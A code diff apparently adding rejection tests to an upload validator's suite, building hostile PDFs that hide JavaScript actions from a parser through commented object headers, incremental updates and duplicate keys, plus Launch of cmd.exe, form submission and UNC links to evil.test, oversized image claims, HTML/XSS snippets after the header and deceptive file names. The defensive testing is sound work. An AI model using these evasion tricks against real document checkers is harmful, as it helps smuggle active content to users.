@@ -31,6 +31,7 @@ ONLY = "Only PDF, JPEG, PNG and TIFF files are accepted"
 PIXELS = "too large in pixels"
 DAMAGED_IMAGE = "damaged or not really an image"
 PAGES = "has several pages or frames"
+ACCENTS = "accents stacked on one letter"
 
 
 @dataclass(frozen=True)
@@ -264,6 +265,143 @@ def jpeg_then_pdf() -> bytes:
     return JPEG + active_pdf("openaction-js")
 
 
+# --- the second outside test: tricks that hid from the first check ------------------------------
+
+
+def listed_pdf(objects: dict[int, bytes], headers: dict[int, bytes] | None = None) -> bytes:
+    """A classic one-revision PDF written object by object, ``headers`` replacing some objects'
+    ``n 0 obj`` (the tester's writer: a comment inside a header hides the object from pypdf)."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += (headers or {}).get(number, b"%d 0 obj" % number) + b"\n" + objects[number] + b"\nendobj\n"
+    start, size = len(out), max(objects) + 1
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    for number in range(1, size):
+        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
+    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start))
+
+
+PLAIN = {
+    1: b"<< /Type /Catalog /Pages 2 0 R >>",
+    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
+    4: stream(b"", b"BT (Hello) Tj ET", ()),
+}
+PAGE_WITH_LINK = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>"
+PAGE_WITH_IMAGE = (
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>"
+)
+
+
+def plain_with(**objects: bytes) -> dict[int, bytes]:
+    """``PLAIN`` with objects replaced or added: ``o5=...`` is object 5."""
+    return {**PLAIN, **{int(key[1:]): value for key, value in objects.items()}}
+
+
+def commented_header(number: int) -> bytes:
+    return b"%d 0%%x\nobj" % number
+
+
+COMMENTED_HEADERS = {
+    "openaction": (
+        plain_with(o1=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", o5=JS_ACTION),
+        {1: commented_header(1), 5: commented_header(5)},
+    ),
+    "names-javascript": (
+        plain_with(
+            o1=b"<< /Type /Catalog /Pages 2 0 R /Names 5 0 R >>",
+            o5=b"<< /JavaScript << /Names [(a) " + JS_ACTION + b"] >> >>",
+        ),
+        {5: commented_header(5)},
+    ),
+    "page-aa": (
+        plain_with(
+            o3=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O "
+            + JS_ACTION
+            + b" >> >>"
+        ),
+        {3: commented_header(3)},
+    ),
+    "uri-link": (
+        plain_with(
+            o3=PAGE_WITH_LINK,
+            o5=b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.test/) >> >>",
+        ),
+        {5: commented_header(5)},
+    ),
+}
+
+
+def commented_header_in_update() -> bytes:
+    """A clean document, then an incremental update whose catalog (header with a comment) runs a script."""
+    first = listed_pdf(PLAIN)
+    catalog = b"1 0%c\nobj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS_ACTION + b" >>\nendobj\n"
+    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
+    table = b"xref\n1 1\n%010d 00000 n \n" % len(first)
+    trailer = b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        previous,
+        len(first) + len(catalog),
+    )
+    return first + catalog + table + trailer
+
+
+def object_stream_typed_by_reference() -> bytes:
+    """An object stream whose /Type is a reference to the name /ObjStm (a viewer resolves it)."""
+    pdf = document(b"/OpenAction 5 0 R ", b"", {5: JS_ACTION, 6: b"/ObjStm"})
+    pdf.packed, pdf.packed_filters = {1, 5}, (FLATE,)
+    return pdf.build().replace(b"/Type /ObjStm", b"/Type 6 0 R  ")
+
+
+DUPLICATE_KEYS = {
+    "launch": b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /GoTo /D [3 0 R /Fit] "
+    b"/S /Launch /F (cmd.exe) >> >>",
+    "gotor": b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /GoTo /D [3 0 R /Fit] /S /GoToR "
+    b"/F (\\\\\\\\evil.test\\\\s\\\\x.pdf) /D [0 /Fit] >> >>",
+    "submit-form": b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (x) /Rect [0 0 612 792] "
+    b"/A << /S /GoTo /D [3 0 R /Fit] /S /SubmitForm /F << /FS /URL /F (https://evil.test/c) >> >> >>",
+}
+
+
+def duplicate_key(kind: str) -> bytes:
+    catalog = (
+        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>" if kind == "submit-form" else PLAIN[1]
+    )
+    return listed_pdf(plain_with(o1=catalog, o3=PAGE_WITH_LINK, o5=DUPLICATE_KEYS[kind]))
+
+
+def image_pdf(dictionary: bytes, data: bytes, **objects: bytes) -> bytes:
+    """A page drawing image 5 (``dictionary`` after /Subtype /Image), its bytes ``data`` as they are."""
+    image = raw_stream(b"/Type /XObject /Subtype /Image " + dictionary, data)
+    return listed_pdf(
+        plain_with(o3=PAGE_WITH_IMAGE, o4=stream(b"", b"q 100 0 0 100 0 0 cm /I Do Q", ()), o5=image, **objects)
+    )
+
+
+def jpx_codestream(width: int, height: int) -> bytes:
+    """A JPEG 2000 codestream's start (SOC, SIZ) declaring ``width`` × ``height``."""
+    siz = struct.pack(">HHHIIIIIIIIH", 0xFF51, 41, 0, width, height, 0, 0, width, height, 0, 0, 1) + bytes([7, 1, 1])
+    return b"\xff\x4f" + siz + b"\xff\xd9"
+
+
+def jbig2_page(width: int, height: int) -> bytes:
+    """An embedded JBIG2 stream's page information segment (type 48) declaring ``width`` × ``height``."""
+    header = struct.pack(">IBBBI", 0, 48, 0, 1, 19)
+    return header + struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
+
+
+def small_jpeg_claiming(width: int, height: int) -> bytes:
+    out = io.BytesIO()
+    Image.new("L", (8, 8)).save(out, format="JPEG")
+    data = out.getvalue()
+    at = data.index(b"\xff\xc0")
+    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]
+
+
+GREY = b"/ColorSpace /DeviceGray /BitsPerComponent 8 "
+
+
 # --- images -------------------------------------------------------------------------------------
 
 
@@ -398,6 +536,66 @@ HOSTILE: list[Hostile] = [
     Hostile("pdf-js-in-unlisted-object", "scan.pdf", unlisted_object, ACTIVE),
     Hostile("pdf-js-in-unparseable-unlisted-object", "scan.pdf", unparseable_unlisted_object, ACTIVE),
     Hostile("pdf-js-in-unparseable-listed-object", "scan.pdf", unparseable_listed_object, ACTIVE),
+    *[
+        Hostile(
+            f"pdf-comment-in-header-{kind}", "scan.pdf", lambda kind=kind: listed_pdf(*COMMENTED_HEADERS[kind]), ACTIVE
+        )
+        for kind in COMMENTED_HEADERS
+    ],
+    Hostile("pdf-comment-in-header-in-update", "scan.pdf", commented_header_in_update, ACTIVE),
+    Hostile(
+        "pdf-listed-object-unreadable",
+        "scan.pdf",
+        lambda: listed_pdf(plain_with(o5=b"<< /Producer (x) >>"), headers={5: b"x5 0 obj"}),
+        DAMAGED_PDF,
+    ),
+    Hostile("pdf-object-stream-typed-by-reference", "scan.pdf", object_stream_typed_by_reference, ACTIVE),
+    *[
+        Hostile(f"pdf-duplicate-key-{kind}", "scan.pdf", lambda kind=kind: duplicate_key(kind), "the same key twice")
+        for kind in DUPLICATE_KEYS
+    ],
+    Hostile(
+        "pdf-image-size-by-reference",
+        "scan.pdf",
+        lambda: image_pdf(b"/Width 6 0 R /Height 6 0 R " + GREY + b"/Filter /DCTDecode", bytes(16), o6=b"100000"),
+        PIXELS,
+    ),
+    Hostile(
+        "pdf-jpx-codestream-too-large",
+        "scan.pdf",
+        lambda: image_pdf(b"/Filter /JPXDecode", jpx_codestream(100_000, 100_000)),
+        PIXELS,
+    ),
+    Hostile(
+        "pdf-jpeg-frame-too-large",
+        "scan.pdf",
+        lambda: image_pdf(b"/Width 8 /Height 8 " + GREY + b"/Filter /DCTDecode", small_jpeg_claiming(65_000, 65_000)),
+        PIXELS,
+    ),
+    Hostile(
+        "pdf-jbig2-page-too-large",
+        "scan.pdf",
+        lambda: image_pdf(b"/Width 8 /Height 8 /BitsPerComponent 1 /Filter /JBIG2Decode", jbig2_page(200_000, 200_000)),
+        PIXELS,
+    ),
+    Hostile(
+        "pdf-html-image-after-header",
+        "scan.pdf",
+        lambda: b"%PDF-1.4\n<img src=x onerror=alert(document.domain)>\n" + listed_pdf(PLAIN)[9:],
+        "hides a web page or a script",
+    ),
+    Hostile(
+        "pdf-html-event-handler-after-header",
+        "scan.pdf",
+        lambda: b"%PDF-1.4\n<details open ontoggle=alert(1)>\n" + listed_pdf(PLAIN)[9:],
+        "hides a web page or a script",
+    ),
+    Hostile(
+        "pdf-html-javascript-link-after-header",
+        "scan.pdf",
+        lambda: b"%PDF-1.4\n<a href=' javascript&#58;alert(1)'>x</a>\n" + listed_pdf(PLAIN)[9:],
+        "hides a web page or a script",
+    ),
     Hostile("pdf-encrypted", "locked.pdf", encrypted, "protected by a password"),
     Hostile("pdf-flate-bomb", "bomb.pdf", flate_bomb, BOMB),
     Hostile("pdf-object-stream-bomb", "bomb.pdf", object_stream_bomb, BOMB),
@@ -455,4 +653,5 @@ HOSTILE: list[Hostile] = [
     Hostile("name-with-windows-traversal", "..\\..\\web.config", lambda: PNG, ONLY),
     Hostile("name-with-rtl-override", "invoice\u202egnp.exe", lambda: PNG, ONLY),
     Hostile("name-with-rtl-override-and-script", "scan\u202efdp.pdf", lambda: active_pdf("js-in-a-stream"), ACTIVE),
+    Hostile("name-with-190-combining-accents", "a" + "\u0301" * 190 + ".pdf", lambda: listed_pdf(PLAIN), ACCENTS),
 ]
